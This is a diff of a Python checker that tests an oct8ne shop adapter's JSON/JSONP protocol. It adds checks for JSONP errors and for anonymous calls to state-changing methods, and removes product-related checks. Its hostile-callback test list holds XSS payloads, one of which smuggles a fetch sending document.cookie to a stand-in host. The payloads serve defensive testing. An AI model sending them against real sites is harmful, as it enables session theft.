@@ -1,23 +1,13 @@
-"""Checks of the frame protocol: every method as JSON and JSONP, names, callbacks, products."""
+"""Checks of the frame protocol: every method as JSON and JSONP, names, callbacks, errors."""
 
 from __future__ import annotations
 
-import re
-from datetime import date, timedelta
 from typing import Any
 
 from oct8ne_adapter.checker.context import CALLBACK, UNKNOWN_PRODUCT, Context
-from oct8ne_adapter.checker.http import JSONP_CONTENT_TYPES, parse_jsonp, shorten
-from oct8ne_adapter.checker.results import (
-    Check,
-    Fault,
-    NotApplicable,
-    Verdict,
-    passed,
-    verdict,
-    warned,
-)
-from oct8ne_adapter.checker.schemas import schema_problems, unknown_fields
+from oct8ne_adapter.checker.http import JSONP_CONTENT_TYPES, Answer, parse_jsonp, shorten
+from oct8ne_adapter.checker.results import Check, Fault, Level, Verdict, passed
+from oct8ne_adapter.checker.schemas import unknown_fields
 
 #: The methods every adapter serves (the 2.4 table), in the order they are checked.
 CORE_METHODS = (
@@ -36,7 +26,11 @@ HOSTILE_CALLBACKS = (
     "<script>alert(1)</script>",
     "cb);fetch('//evil.example/'+document.cookie);//",
 )
-_ABSOLUTE_URL = re.compile(r"^(https?:)?//[^/\s]", re.IGNORECASE)
+#: Not part of the protocol, but served by official modules to change their configuration
+#: (the PrestaShop and WooCommerce connectors' back-office actions): never to an anonymous call.
+STATE_CHANGING = ("unlink", "changeConfiguration")
+#: Where a JSONP error is rated until our own demo answers it inside the callback (issue 17).
+JSONP_ERROR_LEVEL = Level.COMPATIBILITY
 
 
 def _summary(payload: Any) -> str:
@@ -67,19 +61,21 @@ def json_check(method: str) -> Check:
 
     def run(ctx: Context) -> Verdict:
         answer = ctx.call(method, ctx.method_params(method))
-        payload = answer.expect_json()
+        payload = ctx.typed(method, answer, ctx.payload(answer))
         ctx.payloads[method] = payload
-        problems = schema_problems(method, payload)
-        if problems:
-            raise Fault(f"{answer.request}: " + "; ".join(problems))
-        notes = [f"unknown field, {reason}" for reason in unknown_fields(method, payload)]
+        for reason in unknown_fields(method, payload):
+            ctx.flag(
+                Fault(
+                    f"{answer.request}: unknown field, {reason}",
+                    level=Level.HARDENING,
+                    key=("unknown field", method, reason.split(":")[-1]),
+                )
+            )
         if method in ("productInfo", "productSummary") and UNKNOWN_PRODUCT in answer.request:
-            notes.append("no product id known: only an empty answer was checked")
-        elif method in ("productInfo", "productSummary") and payload == []:
-            notes.append(f"{answer.request}: no product found (is --product-ids right?)")
+            return passed("no product id known: only an empty answer was checked")
         if method in ("getOrders", "getOrderDetails") and not ctx.options.token:
-            notes.append("without --token only the answer to a wrong token was checked")
-        return verdict(notes, f"application/json, valid: {_summary(payload)}")
+            return passed("valid; without a token only the answer to a wrong one was checked")
+        return passed(f"application/json, valid: {_summary(payload)}")
 
     return Check(f"{method}.json", f"{method} answers JSON of the 2.4 structure", run)
 
@@ -90,13 +86,25 @@ def jsonp_check(method: str) -> Check:
     def run(ctx: Context) -> Verdict:
         answer = ctx.call(method, [*ctx.method_params(method), ("callback", CALLBACK)])
         answer.expect_status(200)
+        if not answer.body.strip():
+            answer.json()  # an empty body: the method's cause, not its Content-Type
         if answer.content_type not in JSONP_CONTENT_TYPES:
-            raise Fault(
-                f"{answer.request}: Content-Type {answer.content_type or '(none)'!r} for JSONP, "
-                "not 'application/javascript'"
+            ctx.flag(
+                Fault(
+                    f"{answer.request}: Content-Type {answer.content_type or '(none)'!r} for "
+                    "JSONP, not 'application/javascript' (the 2.4 document: \"always with the "
+                    'content-type set to application/javascript")',
+                    key=("content-type jsonp", answer.content_type),
+                )
             )
         if answer.header("x-content-type-options").lower() != "nosniff":
-            raise Fault(f"{answer.request}: no 'X-Content-Type-Options: nosniff' on JSONP")
+            ctx.flag(
+                Fault(
+                    f"{answer.request}: no 'X-Content-Type-Options: nosniff' on JSONP",
+                    level=Level.HARDENING,
+                    key=("nosniff",),
+                )
+            )
         jsonp = parse_jsonp(answer, CALLBACK)
         if method in ctx.payloads and jsonp.payload != ctx.payloads[method]:
             raise Fault(
@@ -104,7 +112,13 @@ def jsonp_check(method: str) -> Check:
                 f"the JSON answer {shorten(ctx.payloads[method])}"
             )
         if not jsonp.commented:
-            return warned(f"{answer.request}: no '/**/' before the callback (defence in depth)")
+            ctx.flag(
+                Fault(
+                    f"{answer.request}: no '/**/' before the callback (defence in depth)",
+                    level=Level.HARDENING,
+                    key=("jsonp comment",),
+                )
+            )
         return passed(f"{answer.content_type}, /**/{CALLBACK[:6]}…(…); with nosniff")
 
     return Check(f"{method}.jsonp", f"{method} answers JSONP with a callback", run)
@@ -112,7 +126,7 @@ def jsonp_check(method: str) -> Check:
 
 def _canonical(ctx: Context, method: str, params: list[tuple[str, str]]) -> Any:
     if method not in ctx.payloads:
-        ctx.payloads[method] = ctx.call(method, params).expect_json()
+        ctx.payloads[method] = ctx.payload(ctx.call(method, params))
     return ctx.payloads[method]
 
 
@@ -126,7 +140,7 @@ def method_names(ctx: Context) -> Verdict:
             answer = ctx.call(spelling, params)
             if answer.status == 404:
                 raise Fault(f"{answer.request}: 404, method names must be case-insensitive")
-            if answer.expect_json() != expected:
+            if ctx.payload(answer) != expected:
                 raise Fault(f"{answer.request}: answers differently from {method}")
             checked.append(spelling)
     return passed(f"{', '.join(checked)} answer as the documented names do")
@@ -138,14 +152,68 @@ def unknown_method(ctx: Context) -> Verdict:
     if answer.status >= 500:
         raise Fault(f"{answer.request}: HTTP {answer.status}: {shorten(answer.text)}")
     if answer.status == 200:
-        return warned(f"{answer.request}: 200 for an unknown method: {shorten(answer.text)}")
+        raise Fault(
+            f"{answer.request}: 200 for an unknown method: {shorten(answer.text)}",
+            level=Level.HARDENING,
+        )
     return passed(f"HTTP {answer.status}")
+
+
+def jsonp_errors(ctx: Context) -> Verdict:
+    """An error with a callback reaches it: 200 and `cb({...error...})` (DESIGN §3)."""
+    # A browser does not run a script served with a non-2xx status: the widget would wait for
+    # a callback that never comes (DESIGN §3: "a call with a valid callback always gets 200").
+    answer = ctx.call("oct8neCheckNoSuchMethod", [("callback", CALLBACK)])
+    if answer.status >= 500:
+        raise Fault(f"{answer.request}: HTTP {answer.status}: {shorten(answer.text)}")
+    if answer.status != 200:
+        raise Fault(
+            f"{answer.request}: HTTP {answer.status}: a browser runs no script with a non-2xx "
+            "status, so the error never reaches the callback; answer 200 with the error inside",
+            level=JSONP_ERROR_LEVEL,
+        )
+    payload = parse_jsonp(answer, CALLBACK).payload
+    if not _is_error(payload):
+        raise Fault(
+            f"{answer.request}: 200 without an error for an unknown method: {shorten(payload)}"
+        )
+    return passed(f"200, the error inside {CALLBACK[:6]}…(): {shorten(payload, 60)}")
+
+
+def _is_error(payload: Any) -> bool:
+    return isinstance(payload, dict) and any(
+        key.lower() in ("error", "errors", "message") and value not in (None, False, "")
+        for key, value in payload.items()
+    )
+
+
+def state_changing(ctx: Context) -> Verdict:
+    """Methods outside the protocol that change state refuse an anonymous call."""
+    outcomes = []
+    for method in STATE_CHANGING:
+        answer = ctx.call(method)
+        if 200 <= answer.status < 300 and not _refusal(answer):
+            raise Fault(
+                f"{answer.request}: HTTP {answer.status} to an anonymous call "
+                f"({shorten(answer.text, 60)}): anyone could {method} the shop's oct8ne link",
+                level=Level.SECURITY,
+            )
+        outcomes.append(f"{method}: HTTP {answer.status}")
+    return passed("refused anonymously: " + ", ".join(outcomes))
+
+
+def _refusal(answer: Answer) -> bool:
+    """Whether a 2xx answer is an error (JSON or JSONP) rather than the action done."""
+    try:
+        payload = answer.json()
+    except Fault:
+        return False
+    return _is_error(payload) or payload in ([], None, False)
 
 
 def hostile_callbacks(ctx: Context) -> Verdict:
     """A callback that is not a JavaScript name is refused or cleaned, never reflected."""
     outcomes = []
-    notes = []
     for callback in HOSTILE_CALLBACKS:
         answer = ctx.call("getAdapterInfo", [("callback", callback)])
         if answer.status >= 500:
@@ -157,128 +225,22 @@ def hostile_callbacks(ctx: Context) -> Verdict:
             if not inert:
                 raise Fault(
                     f"{answer.request}: reflected raw as {answer.content_type or '(no type)'}: "
-                    f"{shorten(answer.text)}"
+                    f"{shorten(answer.text)}",
+                    level=Level.SECURITY,
+                    key=("callback reflected",),
                 )
-            notes.append(f"{answer.request}: echoed inside a JSON error: {shorten(answer.text)}")
+            ctx.flag(
+                Fault(
+                    f"{answer.request}: echoed inside a JSON error: {shorten(answer.text)}",
+                    level=Level.HARDENING,
+                    key=("callback echoed",),
+                )
+            )
         outcomes.append(
             f"HTTP {answer.status}" if answer.status != 200 else "200 with the callback cleaned"
         )
     summary = ", ".join(sorted(set(outcomes)))
-    return verdict(notes, f"{len(HOSTILE_CALLBACKS)} hostile callbacks not reflected ({summary})")
-
-
-def _ids(payload: Any) -> list[str]:
-    return [str(item.get("internalId")) for item in payload if isinstance(item, dict)]
-
-
-def product_ids(ctx: Context) -> Verdict:
-    """productInfo/productSummary keep the requested order and skip unknown ids."""
-    known = list(ctx.product_ids())
-    asked = [*reversed(known[:2]), UNKNOWN_PRODUCT]
-    if len(known) == 1:
-        asked = [UNKNOWN_PRODUCT, known[0]]
-    expected = [product for product in asked if product != UNKNOWN_PRODUCT]
-    for method in ("productInfo", "productSummary"):
-        params = [("productIds", ",".join(asked))]
-        answer = ctx.call(method, params)
-        got = _ids(answer.expect_json())
-        if got != expected:
-            raise Fault(f"{answer.request}: answered ids {got}, expected {expected}")
-    return passed(f"asked {','.join(asked)}: got {','.join(expected)} in that order")
-
-
-def _relative_urls(product: dict[str, Any]) -> list[str]:
-    urls = [product.get(name) for name in ("productUrl", "thumbnail", "addToCartUrl")]
-    medias = product.get("medias")
-    if isinstance(medias, list):
-        urls += [media.get("url") for media in medias if isinstance(media, dict)]
-    return [url for url in urls if isinstance(url, str) and url and not _ABSOLUTE_URL.match(url)]
-
-
-def product_urls(ctx: Context) -> Verdict:
-    """ProductInfo URLs are absolute, `medias` has an image, addToCartUrl when it is needed."""
-    ids = ",".join(ctx.product_ids())
-    # Missing fields and wrong types are productInfo.json's to report: only URLs matter here.
-    answer = ctx.call("productInfo", [("productIds", ids)])
-    products = [item for item in answer.expect_json() if isinstance(item, dict)]
-    if not products:
-        raise NotApplicable(f"{answer.request} found no product")
-    notes = []
-    for product in products:
-        label = f"product {product.get('internalId')}"
-        if product.get("useProductUrl") is False and not product.get("addToCartUrl"):
-            raise Fault(f"{label}: useProductUrl is false but addToCartUrl is empty")
-        relative = _relative_urls(product)
-        if relative:
-            notes.append(f"{label}: relative URL {shorten(relative[0])} (must be absolute)")
-        if product.get("medias") == []:
-            notes.append(f"{label}: medias is empty (the document asks for at least one)")
-    return verdict(notes, f"{len(products)} products: absolute URLs, at least one media each")
-
-
-def _prices(ctx: Context, *presentation: tuple[str, str]) -> list[Any]:
-    ids = ",".join(ctx.product_ids())
-    products = ctx.valid_json("productSummary", [("productIds", ids), *presentation])
-    return [product["formattedPrice"] for product in products]
-
-
-def _format_difference(ctx: Context, what: str, first: str, second: str, fixed: str) -> Verdict:
-    one = _prices(ctx, (what, first), *([("locale", fixed)] if fixed else []))
-    other = _prices(ctx, (what, second), *([("locale", fixed)] if fixed else []))
-    pairs = [(a, b) for a, b in zip(one, other, strict=False) if a is not None and b is not None]
-    if not pairs:
-        raise NotApplicable("none of the products has a price")
-    different = [(a, b) for a, b in pairs if a != b]
-    if not different:
-        return warned(
-            f"{what}={second} formats prices as {what}={first} does: {shorten(pairs[0][0])}"
-        )
-    a, b = different[0]
-    return passed(f"{what}={first} {a} → {what}={second} {b}")
-
-
-def locale_format(ctx: Context) -> Verdict:
-    """Prices follow the locale: en-US and es-ES format differently."""
-    return _format_difference(ctx, "locale", "en-US", "es-ES", "")
-
-
-def currency_format(ctx: Context) -> Verdict:
-    """Prices follow the currency: USD and EUR differ (unless the shop refuses EUR)."""
-    return _format_difference(ctx, "currency", "USD", "EUR", "en-US")
-
-
-def extra_check(method: str, why: str) -> Check:
-    """`<method>.present`: an extra method is a warn when absent, validated when present."""
-
-    def run(ctx: Context) -> Verdict:
-        answer = ctx.call(method, ctx.method_params(method) or _extra_params(ctx, method))
-        if answer.status in (404, 405, 501) or (answer.status == 200 and not answer.body.strip()):
-            return warned(f"absent ({answer.request}: HTTP {answer.status}); {why}")
-        if 400 <= answer.status < 500 and answer.status != 429:
-            return warned(
-                f"present, but refused the checker's call: HTTP {answer.status}: "
-                f"{shorten(answer.text)}"
-            )
-        payload = answer.expect_json()
-        if payload is None:
-            return warned(f"absent ({answer.request} answers null); {why}")
-        problems = schema_problems(method, payload)
-        if problems:
-            raise Fault(f"{answer.request}: " + "; ".join(problems))
-        return passed(f"present, valid: {_summary(payload)}")
-
-    return Check(f"{method}.present", f"{method} (outside the 2.4 table) present and valid", run)
-
-
-def _extra_params(ctx: Context, method: str) -> list[tuple[str, str]]:
-    if method != "getSalesReport":
-        return []
-    today = date.today()
-    return [
-        ("from", (today - timedelta(days=30)).isoformat()),
-        ("to", today.isoformat()),
-        ("apiToken", ctx.token_or_wrong()),
-    ]
+    return passed(f"{len(HOSTILE_CALLBACKS)} hostile callbacks not reflected ({summary})")
 
 
 def _per_method() -> list[Check]:
@@ -292,15 +254,7 @@ CHECKS: list[Check] = [
     *_per_method(),
     Check.documented("methods.case", method_names),
     Check.documented("methods.unknown", unknown_method),
+    Check.documented("errors.jsonp", jsonp_errors),
     Check.documented("callback.hostile", hostile_callbacks),
-    Check.documented("products.ids", product_ids),
-    Check.documented("products.urls", product_urls),
-    Check.documented("locale.format", locale_format),
-    Check.documented("currency.format", currency_format),
-]
-
-EXTRA_CHECKS: list[Check] = [
-    extra_check("productRelated", "oct8ne shows related products with it"),
-    extra_check("getCart", "oct8ne reads cart totals with it"),
-    extra_check("getSalesReport", "oct8ne's sales report needs it"),
+    Check.documented("methods.state-changing", state_changing),
 ]
